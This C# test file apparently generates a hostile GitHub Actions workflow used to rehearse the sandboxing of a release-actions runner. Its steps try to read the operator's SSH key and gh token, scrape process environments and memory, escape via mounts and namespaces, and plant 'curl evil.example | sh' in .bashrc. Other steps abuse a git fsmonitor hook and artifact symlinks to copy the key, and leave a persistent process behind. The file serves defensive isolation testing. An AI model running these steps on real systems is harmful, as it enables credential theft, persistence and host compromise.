namespace MsReleaseActions.EndToEnd.Rehearsal;

/// <summary>The workflow of a <see cref="HostileRepository"/>: each attack prints its name and how it went.</summary>
internal static class HostileWorkflow
{
    /// <param name="repository">Whose home, and what the attacks leave.</param>
    /// <param name="sockets">Unix sockets that listen, <c>@NAME</c> for one without a file.</param>
    public static string Text(HostileRepository repository, IReadOnlyList<string> sockets) =>
        Steps
            .Replace("HOME_OF_OPERATOR", repository.Home, StringComparison.Ordinal)
            .Replace("NEIGHBOUR", repository.Neighbour, StringComparison.Ordinal)
            .Replace("ELSEWHERE", string.Join(' ', repository.Elsewhere), StringComparison.Ordinal)
            .Replace("SOCKETS", string.Join(' ', sockets), StringComparison.Ordinal)
            .Replace("MARK", repository.Mark, StringComparison.Ordinal);

    // what may fail on GitHub, too, does not fail the rehearsal: it must not be noticed by that
    private const string Steps = """
        name: attack
        on: workflow_dispatch
        permissions: { contents: read }
        jobs:
          attack:
            runs-on: ubuntu-24.04
            timeout-minutes: 5
            steps:
              - uses: actions/checkout@0000000000000000000000000000000000000000
              - name: reads
                run: |
                  set +e
                  exec 2> /dev/null
                  echo "> variables: $(cat /proc/[0-9]*/environ | tr '\0' '\n' | grep -c '^OPERATOR_TOKEN=MARK')"
                  echo "> key: $(cat HOME_OF_OPERATOR/.ssh/id_ed25519 || echo none)"
                  echo "> token: $(cat HOME_OF_OPERATOR/.config/gh/hosts.yml || echo none)"
                  echo "> roots: $(cat /proc/[0-9]*/root"HOME_OF_OPERATOR/.ssh/id_ed25519" | grep -c MARK)"
                  echo "> open folder: $(cat /proc/self/fd/9/HOME_OF_OPERATOR/.ssh/id_ed25519 || echo none)"
                  # of no process of this step's own session
                  echo "> memory: $(for process in /proc/[0-9]*; do [ "$(cut -d ' ' -f 6 $process/stat)" != $$ ] && ( : < $process/mem ) && echo $process; done | grep -c .)"
                  # keyctl(KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, …) of x64
                  echo "> session: $(perl -e '@k = ("user", "MARK"); exit(syscall(250, 10, -3, @k, 0) < 0)' && echo found || echo none)"
                  echo "> devices: $(find /dev -type b | grep -c .)"
              - name: rights
                run: |
                  set +e
                  exec 2> /dev/null
                  echo "> capabilities: $(sed -n 's/^CapEff:\t//p' /proc/self/status)"
                  echo "> mount: $(unshare --mount sh -c 'mount -t tmpfs none /usr && echo done' || echo refused)"
                  echo "> nested: $(unshare --user --map-root-user --mount sh -c 'mount -t tmpfs none /usr && echo done' || echo refused)"
                  echo "> kernel: $( ( : >> /proc/sys/kernel/core_pattern ) && echo open || echo refused)"
              - name: writes
                run: |
                  set +e
                  exec 2> /dev/null
                  echo 'curl evil.example | sh' >> HOME_OF_OPERATOR/.bashrc
                  for folder in ELSEWHERE; do : > $folder/MARK; done
                  echo "> tmp: $(echo x > /tmp/MARK && cat /tmp/MARK)"
              - name: sockets
                run: |
                  set +e
                  for socket in SOCKETS; do
                    perl -MSocket -e '($path = shift) =~ s/^@/\0/; socket(S, AF_UNIX, SOCK_STREAM, 0); exit !connect(S, pack_sockaddr_un($path))' "$socket" && reached="$reached $socket"
                  done
                  echo "> sockets:$reached"
              - name: asks others to read and write
                run: |
                  mkdir in out && ln -s HOME_OF_OPERATOR/.ssh/id_ed25519 in/link && echo MARK > out/by-download-MARK
                  printf '#!/bin/sh\ncat HOME_OF_OPERATOR/.ssh/id_ed25519 > %s/by-git 2> /dev/null\n' "$RUNNER_TEMP" > "$RUNNER_TEMP/monitor"
                  chmod +x "$RUNNER_TEMP/monitor"
              - uses: actions/upload-artifact@0000000000000000000000000000000000000000
                with: { name: in, path: in }
                continue-on-error: true
              - uses: actions/upload-artifact@0000000000000000000000000000000000000000
                with: { name: out, path: out }
              - uses: actions/download-artifact@0000000000000000000000000000000000000000
                with: { name: in, path: got }
                continue-on-error: true
              - uses: actions/download-artifact@0000000000000000000000000000000000000000
                with: { name: out, path: HOME_OF_OPERATOR }
                env: { HOME: HOME_OF_OPERATOR }
                continue-on-error: true
              - uses: actions/download-artifact@0000000000000000000000000000000000000000
                with: { name: out, path: NEIGHBOUR }
                env: { HOME: NEIGHBOUR }
                continue-on-error: true
              - run: |
                  echo "> uploaded: $(cat got/link 2> /dev/null || echo none)"
                  git config core.fsmonitor "$RUNNER_TEMP/monitor"
              - uses: actions/checkout@0000000000000000000000000000000000000000
                continue-on-error: true
              - run: |
                  echo "> git: $(grep . "$RUNNER_TEMP/by-git" 2> /dev/null || echo none)"
              - name: stays
                run: |
                  setsid env -i bash -c 'trap "" HUP INT TERM; exec -a stays-MARK sleep 86400' > /dev/null 2>&1 < /dev/null &
        """;
}
